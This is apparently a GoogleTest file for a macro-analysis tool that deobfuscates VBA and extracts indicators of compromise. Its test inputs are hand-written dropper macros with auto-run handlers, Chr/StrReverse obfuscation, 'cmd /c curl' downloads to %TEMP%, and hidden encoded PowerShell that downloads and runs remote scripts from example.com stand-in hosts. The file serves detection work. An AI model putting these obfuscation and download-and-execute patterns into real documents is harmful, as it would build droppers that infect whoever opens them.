@@ -1,0 +1,233 @@
+// analysis::evaluate_vba on hand-written macros in the style of real droppers (our own text, never a sample's):
+// Chr() arithmetic, StrReverse, Replace markers, Split URL lists, Array indexing, helper Functions, form-hidden
+// strings, document variables and encoded PowerShell built at test time. Each test asserts the exact IOCs.
+#include <gtest/gtest.h>
+
+#include "analysis/iocs.hpp"
+#include "support/iocs_helpers.hpp"
+
+namespace {
+
+namespace analysis = mamori::analysis;
+using mamori::test::base64;
+using mamori::test::compress;
+using mamori::test::dump;
+using mamori::test::encode_command;
+using mamori::test::find_ioc;
+using mamori::test::values_of;
+using Set = std::set<std::string>;
+
+// Joins lines with CRLF, as the VBA editor stores them.
+std::string vb(std::initializer_list<const char*> lines) {
+  std::string s;
+  for (const char* l : lines) {
+    s += l;
+    s += "\r\n";
+  }
+  return s;
+}
+
+TEST(VbaEvalMacro, ChrArithmeticStrReverseAndReplaceMarkers) {
+  const std::string src = vb({
+      "Attribute VB_Name = \"Module1\"",                                              // 1
+      "Const MARK = \"]x[\"",                                                         // 2
+      "Function Dec(s)",                                                              // 3
+      "  Dec = Replace(s, MARK, \"\")",                                               // 4
+      "End Function",                                                                 // 5
+      "Sub AutoOpen()",                                                               // 6
+      "  Dim u As String",                                                            // 7
+      "  u = Chr(104) & Chr(&H74) & ChrW(116 + 0) & Chr$(224 \\ 2) & Chr(58) & \"//\"",  // 8
+      "  u = u & StrReverse(\"moc.elpmaxe.eno\") & \"/\" & _",                          // 9
+      "      Dec(\"p]x[a]x[y\") & Chr(46 Mod 50) & LCase(\"EXE\")",                     // 10
+      "  Set o = CreateObject(Dec(\"MSX]x[ML2.XML]x[HTTP\"))",                         // 11
+      "  o.Open \"GET\", u, False ' comment with http://comment.example.com/ ignored",  // 12
+      "End Sub",
+  });
+  const auto ev = analysis::evaluate_vba(src, "Module1");
+  ASSERT_EQ(ev.iocs.size(), 1u) << dump(ev.iocs);
+  EXPECT_EQ(ev.iocs[0].type, "url");
+  EXPECT_EQ(ev.iocs[0].value, "http://one.example.com/pay.exe");
+  EXPECT_EQ(ev.iocs[0].where, "vba:Module1:9");
+  EXPECT_EQ(ev.limits_hit, 0u);
+  // The deobfuscated strings are offered to an analyst.
+  bool saw_progid = false;
+  for (const auto& s : ev.strings) saw_progid |= s.value == "MSXML2.XMLHTTP";
+  EXPECT_TRUE(saw_progid);
+}
+
+TEST(VbaEvalMacro, SplitListsArraysAndStringFunctions) {
+  const std::string src = vb({
+      "Attribute VB_Name = \"NewMacros\"",
+      "Public Sub Document_Open()",
+      "  Dim parts, urls, i, r",
+      "  parts = Split(\"HTTP://TWO.EXAMPLE.NET/A|x|zzftp://files.example.org/b\", \"|\")",
+      "  urls = Array(LCase(parts(0)), Mid(\"zzhttps://three.example.com/c\", 3), _",
+      "               Left(\"http://four.example.com/dXXX\", 25), Right(parts(2), Len(parts(2)) - 2))",
+      "  r = Join(urls, \" \") : x = UBound(urls)",
+      "  For i = 0 To UBound(urls)",
+      "    Shell \"cmd /c curl -o %TEMP%\\a\" & i & \".exe \" & urls(i), 0",
+      "  Next",
+      "End Sub",
+  });
+  const auto ev = analysis::evaluate_vba(src, "NewMacros");
+  EXPECT_EQ(values_of(ev.iocs, "url"),
+            (Set{"http://two.example.net/a", "https://three.example.com/c", "http://four.example.com/d",
+                 "ftp://files.example.org/b",
+                 // The literals as written are strings of the macro too.
+                 "HTTP://TWO.EXAMPLE.NET/A", "http://four.example.com/dXXX"}))
+      << dump(ev.iocs);
+  // The loop ran for each element: one command per URL.
+  EXPECT_NE(find_ioc(ev.iocs, "command", "cmd /c curl -o %TEMP%\\a0.exe http://two.example.net/a"), nullptr) << dump(ev.iocs);
+  EXPECT_NE(find_ioc(ev.iocs, "command", "cmd /c curl -o %TEMP%\\a3.exe ftp://files.example.org/b"), nullptr) << dump(ev.iocs);
+  EXPECT_TRUE(values_of(ev.iocs, "domain").empty()) << dump(ev.iocs);
+}
+
+TEST(VbaEvalMacro, FormHiddenEncodedPowerShell) {
+  // The Emotet shape: the command hides in a form control behind a junk marker the macro removes, and the
+  // PowerShell inside splits a URL list and downloads each.
+  const std::string script =
+      "$W='Q';$L=new-object Net.WebClient;$U=('http://five.example.com/w/'+'@https://six.example.org/x/').Split('@');"
+      "foreach($e in $U){try{$L.DownloadFile($e,$env:temp+'\\\\'+'5.exe');break;}catch{}}";
+  std::string hidden;
+  const std::string cmd = "powershell -w hidden -enc " + encode_command(script);
+  for (std::size_t i = 0; i < cmd.size(); i += 3) hidden += cmd.substr(i, 3) + "[zz]";
+  analysis::DocumentStrings extra;
+  extra.forms.push_back({"UserForm1", "Label1", "Caption", hidden});
+  extra.forms.push_back({"UserForm1", "Label2", "Tag", "winmgmts:Win32_Process"});
+  const std::string src = vb({
+      "Attribute VB_Name = \"Module1\"",
+      "Function Cmd()",
+      "  With UserForm1",
+      "    Cmd = Replace(.Label1.Caption, \"[zz]\", \"\")",
+      "  End With",
+      "End Function",
+      "Sub AutoOpen()",
+      "  GetObject(UserForm1.Label2.Tag).Create Cmd, Null, Null, pid",
+      "End Sub",
+  });
+  const auto ev = analysis::evaluate_vba(src, "Module1", extra);
+  EXPECT_EQ(values_of(ev.iocs, "url"), (Set{"http://five.example.com/w/", "https://six.example.org/x/"})) << dump(ev.iocs);
+  const auto* u = find_ioc(ev.iocs, "url", "http://five.example.com/w/");
+  ASSERT_NE(u, nullptr);
+  EXPECT_EQ(u->where, "vba:Module1:4 (decoded powershell)");
+  EXPECT_NE(find_ioc(ev.iocs, "command", cmd), nullptr) << dump(ev.iocs);
+}
+
+TEST(VbaEvalMacro, DocumentVariablesAndPropertiesAndDeflatedPayload) {
+  const std::string inner = "IEX (New-Object Net.WebClient).DownloadString('http://seven.example.com/s.ps1')";
+  const std::string ps = "iex(New-Object IO.StreamReader((New-Object IO.Compression.DeflateStream([IO.MemoryStream]"
+                         "[Convert]::FromBase64String('" + base64(compress(inner, -15)) +
+                         "'),[IO.Compression.CompressionMode]::Decompress)),[Text.Encoding]::ASCII)).ReadToEnd()";
+  analysis::DocumentStrings extra;
+  extra.forms.push_back({"", "pay", "Variable", "-enc " + encode_command(ps)});
+  extra.forms.push_back({"", "Comments", "Property", "p^o^w^e^r^s^h^e^l^l"});
+  const std::string src = vb({
+      "Attribute VB_Name = \"ThisDocument\"",
+      "Private Sub Document_Open()",
+      "  Dim a As String, b As String",
+      "  a = ActiveDocument.BuiltInDocumentProperties(\"Comments\").Value",
+      "  b = ActiveDocument.Variables(\"pay\").Value",
+      "  CreateObject(\"WScript.Shell\").Run Replace(a, \"^\", \"\") & \" -w 1 \" & b, 0",
+      "End Sub",
+  });
+  const auto ev = analysis::evaluate_vba(src, "ThisDocument", extra);
+  EXPECT_EQ(values_of(ev.iocs, "url"), Set{"http://seven.example.com/s.ps1"}) << dump(ev.iocs);
+  const auto* u = find_ioc(ev.iocs, "url", "http://seven.example.com/s.ps1");
+  ASSERT_NE(u, nullptr);
+  EXPECT_EQ(u->where, "vba:ThisDocument:6 (decoded powershell)");
+}
+
+TEST(VbaEvalMacro, IfBranchesLoopsAndArraysBuiltPieceByPiece) {
+  const std::string src = vb({
+      "Attribute VB_Name = \"Module2\"",
+      "Private k(3) As String",
+      "Function Pick(n As Integer, Optional suffix As String = \"/f.php\") As String",
+      "  Dim s",
+      "  If n = 1 Then",
+      "    s = \"http://eight.\"",
+      "  ElseIf n = 2 Then",
+      "    s = \"http://wrong.\"",
+      "  Else",
+      "    s = \"http://nine.\"",
+      "  End If",
+      "  Pick = s & \"example.com\" & suffix",
+      "End Function",
+      "Sub Go()",
+      "  Dim codes, t, i",
+      "  codes = Array(104, 116, 116, 112, 58, 47, 47)",
+      "  For i = LBound(codes) To UBound(codes)",
+      "    t = t & Chr(codes(i) - 0)",
+      "  Next i",
+      "  k(0) = t & \"ten.example.org\" : k(1) = \"/z\"",
+      "  u = k(0) & k(1)",
+      "  If Len(u) > 1000 Then u = u & \"/dead\" Else v = Pick(1)",
+      "  w = Pick(3, \"/g\")",
+      "End Sub",
+  });
+  const auto ev = analysis::evaluate_vba(src, "Module2");
+  EXPECT_EQ(values_of(ev.iocs, "url"),
+            (Set{"http://ten.example.org/z", "http://eight.example.com/f.php", "http://nine.example.com/g"}))
+      << dump(ev.iocs);
+}
+
+TEST(VbaEvalMacro, BenignCodeHasNoUrlsOrDomains) {
+  const std::string src = vb({
+      "Attribute VB_Name = \"Report\"",
+      "Option Explicit",
+      "Sub SaveAll()",
+      "  ActiveDocument.Save",
+      "  Application.Run \"Macro1\"",
+      "  Documents.Open FileName:=\"report.docx\", ReadOnly:=True",
+      "  MsgBox \"Saved \" & ActiveDocument.Name & \" at \" & Now, vbInformation",
+      "  Dim x As String: x = \"Document.Open\"",
+      "  Dim y As String: y = \"file.exe\" & \" \" & \"Application.Run\"",
+      "  Selection.TypeText Text:=\"Version 1.2.3 of Form1.Caption\"",
+      "  Worksheets(\"Sheet1\").Range(\"A1\").Value = \"Total.Sum\"",
+      "End Sub",
+  });
+  const auto ev = analysis::evaluate_vba(src, "Report");
+  EXPECT_TRUE(values_of(ev.iocs, "url").empty()) << dump(ev.iocs);
+  EXPECT_TRUE(values_of(ev.iocs, "domain").empty()) << dump(ev.iocs);
+  EXPECT_TRUE(values_of(ev.iocs, "ip").empty()) << dump(ev.iocs);
+  // The raw text through the recogniser, as an LNK or script would be scanned, is as quiet.
+  const auto raw = analysis::iocs_from_text(src, "t");
+  EXPECT_TRUE(values_of(raw, "url").empty() && values_of(raw, "domain").empty()) << dump(raw);
+}
+
+TEST(VbaEvalMacro, HostileMacrosStayBounded) {
+  // Unbounded recursion.
+  {
+    const auto ev = analysis::evaluate_vba(vb({"Function F(x)", "  F = F(x & \"a\") & \"http://r.example.com/\"",
+                                               "End Function", "Sub S()", "  y = F(\"q\")", "End Sub"}),
+                                           "M");
+    EXPECT_GT(ev.limits_hit, 0u);
+  }
+  // Deep parentheses.
+  {
+    const std::string deep = "x = " + std::string(20000, '(') + "1" + std::string(20000, ')');
+    const auto ev = analysis::evaluate_vba(vb({"Sub S()", deep.c_str(), "End Sub"}), "M");
+    EXPECT_GT(ev.limits_hit, 0u);
+  }
+  // A string that doubles itself, and a huge counted loop.
+  {
+    const auto ev = analysis::evaluate_vba(vb({"Sub S()", "  s = \"http://d.example.com/\"", "  For i = 1 To 100000000",
+                                               "    s = s & s", "  Next", "End Sub"}),
+                                           "M");
+    EXPECT_GT(ev.limits_hit, 0u);
+    EXPECT_LE(ev.work, analysis::limits::max_work + analysis::limits::max_string);
+  }
+  // Two procedures calling each other.
+  {
+    const auto ev = analysis::evaluate_vba(vb({"Function A(n)", "  A = B(n + 1)", "End Function", "Function B(n)",
+                                               "  B = A(n * 2) & Chr(65)", "End Function"}),
+                                           "M");
+    EXPECT_GT(ev.limits_hit, 0u);
+  }
+  // Garbage: unbalanced blocks, stray tokens, unterminated strings.
+  const auto ev = analysis::evaluate_vba("End If\r\nNext\r\nFor\r\nIf Then Else\r\nx = \"abc\r\n(((\r\n)))= =\r\n"
+                                         "Sub\r\nFunction (\r\nx(1,2,3)(4) = .a.b.c(\r\nWith\r\n.x = 1\r\n",
+                                         "M");
+  EXPECT_TRUE(ev.iocs.empty());
+}
+
+}  // namespace
